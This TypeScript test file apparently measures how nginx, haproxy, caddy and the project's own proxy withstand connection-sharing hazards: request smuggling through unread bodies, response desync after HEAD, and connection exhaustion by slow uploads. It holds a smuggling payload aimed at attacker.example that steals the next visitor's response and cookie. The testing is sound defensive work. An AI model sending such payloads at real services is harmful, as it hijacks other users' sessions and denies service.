import { once } from 'node:events'
import type { Socket } from 'node:net'
import type { RawClient } from '../support/raw-client.ts'
import { answerOk, type RecordingUpstream } from '../support/recording-upstream.ts'
import { valuesOf, type WireMessage } from '../support/wire.ts'
import { type Scene, testHazards } from './peers.ts'

const OWN = 'their own response'
const STRANGERS = "a stranger's response"
const UPLOADS = 200
const UPLOAD_OCTETS = 100
const CONNECTIONS = 128
const TINY_CHUNKS = 10_000
const UNFINISHED = 'GET /service_cookie_transfer/chosen HTTP/1.1\r\nHost: attacker.example\r\nX-Swallow: '

const OK = 'HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok'

const request = (method: string, name: string, rest = '\r\n') =>
  `${method} /service_cookie_transfer/${name} HTTP/1.1\r\nHost: www.example.com\r\n${rest}`
const withBody = (body: string, length = body.length) => `Content-Length: ${length}\r\n\r\n${body}`
const nameOf = (startLine: string) => /cookie_transfer\/(\S*)/.exec(startLine)?.[1] ?? ''
const answerName = (socket: Socket, name: string, cookie = name) =>
  socket.write(
    `HTTP/1.1 200 OK\r\nSet-Cookie: sid=${cookie}\r\nContent-Length: ${name.length}\r\n\r\n${name}`,
  )

/** What visitors can do to each other where they share connections to a service. */
testHazards(
  ['nginx', 'haproxy', 'caddy', 'ours'],
  [
    ...['GET', 'HEAD', 'DELETE'].map((method) => ({
      hazard: `an unread body of ${method} that is an unfinished request: the next visitor gets`,
      row: 'a GET, HEAD or DELETE body that the service leaves unread and that begins a request: the next visitor gets',
      options: { onConnection: answerWithoutBodies },
      look: async ({ ask }: Scene) => {
        const attacker = await ask(request(method, 'attacker', withBody(UNFINISHED)))
        await attacker.received('\r\n\r\n')
        return whoseAnswer(await ask(request('GET', 'visitor')))
      },
      seen: { nginx: STRANGERS, haproxy: STRANGERS, caddy: STRANGERS, ours: OWN },
    })),
    {
      hazard: 'a body that the service sends late, after HEAD: the next visitor gets',
      options: { onConnection: answerHeadLate },
      look: async ({ ask }) => {
        await (await ask(request('HEAD', 'first'))).response('HEAD')
        return whoseAnswer(await ask(request('GET', 'visitor')))
      },
      seen: { nginx: STRANGERS, haproxy: STRANGERS, caddy: STRANGERS, ours: OWN },
    },
    {
      hazard: `${UPLOADS} slow uploads: connections that they hold`,
      script: answerOk,
      look: async (scene) => {
        await startUploads(scene)
        const count = uploadsAt(scene.upstream)
        if (count === 0) return 'none, the body is stored first'
        return count === UPLOADS ? 'one each, without a limit' : `${count} of ${CONNECTIONS}`
      },
      seen: {
        nginx: 'none, the body is stored first',
        haproxy: '128 of 128',
        caddy: 'one each, without a limit',
        ours: '96 of 128',
      },
    },
    {
      hazard: `${UPLOADS} slow uploads: a GET beside them`,
      script: answerOk,
      look: async (scene) => {
        await startUploads(scene)
        const { startLine } = await (await scene.ask(request('GET', 'visitor'))).response()
        return startLine.includes(' 200 ') ? 'answered' : (startLine.split(' ')[1] ?? '')
      },
      seen: { nginx: 'answered', haproxy: '503', caddy: 'answered', ours: 'answered' },
    },
    {
      hazard: `requests given up while they wait for one of ${CONNECTIONS} connections`,
      look: async ({ ask, upstream }) => {
        for (let i = 0; i < CONNECTIONS; i += 1) await ask(request('GET', 'held'))
        await upstream.arrived(CONNECTIONS)
        const leaving = await Promise.all(Array.from({ length: 20 }, () => ask(request('GET', 'given-up'))))
        await ownAnswers(ask)
        for (const { socket } of leaving) socket.resetAndDestroy()
        await Promise.all(leaving.map(({ socket }) => socket.destroyed || once(socket, 'close')))
        await ownAnswers(ask)
        const seenBefore = upstream.requests.length
        for (const socket of upstream.sockets) socket.write(OK)
        const visitor = await ask(request('GET', 'visitor'))
        const isVisitor = ({ startLine }: WireMessage) => nameOf(startLine) === 'visitor'
        await upstream.saw(0, () => upstream.requests.some(isVisitor))
        visitor.close()
        if (seenBefore > CONNECTIONS) return 'none waits, there is no limit'
        return upstream.requests.some(({ startLine }) => nameOf(startLine) === 'given-up')
          ? 'still sent'
          : 'never sent'
      },
      seen: {
        nginx: 'none waits, there is no limit',
        haproxy: 'still sent',
        caddy: 'none waits, there is no limit',
        ours: 'never sent',
      },
    },
    {
      hazard: 'two POSTs and a GET in one packet, the first response late',
      look: async ({ ask, upstream }) => {
        const client = await ask(
          request('POST', 'first', withBody('1')) +
            request('POST', 'second', withBody('2')) +
            request('GET', 'third'),
        )
        for (let i = 1; i <= 3; i += 1) {
          const ended = client.ended().then(() => 'the first, then the connection closes' as const)
          const isClosed = await Promise.race([upstream.arrived(i), ended])
          if (isClosed !== undefined) return isClosed
          await ownAnswers(ask)
          if (upstream.requests.length > i) return 'side by side'
          const { startLine = '', connection = 0 } = upstream.requests[i - 1] ?? {}
          const socket = upstream.sockets[connection]
          if (socket !== undefined) answerName(socket, nameOf(startLine))
          if ((await client.response()).body !== ['first', 'second', 'third'][i - 1]) return 'out of order'
        }
        return 'one after the other'
      },
      seen: {
        nginx: 'one after the other',
        haproxy: 'one after the other',
        caddy: 'one after the other',
        ours: 'the first, then the connection closes',
      },
    },
    {
      hazard: 'an upload in chunks of one octet',
      script: answerOk,
      look: async ({ ask, upstream }) => {
        const chunks = '1\r\nx\r\n'.repeat(TINY_CHUNKS)
        await (
          await ask(request('POST', 'tiny', `Transfer-Encoding: chunked\r\n\r\n${chunks}0\r\n\r\n`))
        ).response()
        const count = upstream.octets[0]?.split('\r\n').filter((line) => line === '1').length ?? 0
        return count < TINY_CHUNKS / 50 ? 'joined' : 'passed on one by one'
      },
      seen: { nginx: 'joined', haproxy: 'joined', caddy: 'joined', ours: 'joined' },
    },
  ],
)

/** Every head is a request, whatever body it announced. */
function answerWithoutBodies(socket: Socket): void {
  let pending = ''
  socket.on('data', (chunk) => {
    pending += chunk.toString('latin1')
    for (;;) {
      const end = pending.indexOf('\r\n\r\n')
      if (end === -1) return
      const head = pending.slice(0, end)
      pending = pending.slice(end + 4)
      if (head.startsWith('HEAD')) socket.write('HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\n')
      else answerName(socket, nameOf(head))
    }
  })
}

/** The body after the head of a HEAD arrives before the next response on that connection, and looks like one. */
function answerHeadLate(socket: Socket): void {
  let late = ''
  socket.on('data', (chunk) => {
    const name = nameOf(chunk.toString('latin1'))
    if (name !== 'first') {
      socket.write(late)
      answerName(socket, name)
      return
    }
    late = `HTTP/1.1 200 OK\r\nSet-Cookie: sid=first\r\nContent-Length: 5\r\n\r\nfirst`
    socket.write(`HTTP/1.1 200 OK\r\nContent-Length: ${late.length}\r\n\r\n`)
  })
}

async function whoseAnswer(client: RawClient): Promise<string> {
  const answer = await client.response()
  return answer.body === 'visitor' && valuesOf(answer, 'set-cookie').join() === 'sid=visitor'
    ? OWN
    : STRANGERS
}

/** Starts slow uploads and waits until they hold what they can: until a while of other requests changes nothing. */
async function startUploads({ ask, upstream }: Scene): Promise<void> {
  const slow = request('POST', 'slow', withBody('x', UPLOAD_OCTETS))
  await Promise.all(Array.from({ length: UPLOADS }, () => ask(slow)))
  for (let before = -1; before !== uploadsAt(upstream); ) {
    before = uploadsAt(upstream)
    for (let i = 0; i < 20; i += 1) await ownAnswers(ask)
  }
}

function uploadsAt({ octets }: RecordingUpstream): number {
  return octets.filter((text) => nameOf(text) === 'slow').length
}

/** Responses of the peer itself: what it was sent before them has been read by then. */
async function ownAnswers(ask: Scene['ask']): Promise<void> {
  for (let i = 0; i < 3; i += 1) await (await ask('no request\r\n\r\n')).received('\r\n\r\n')
}
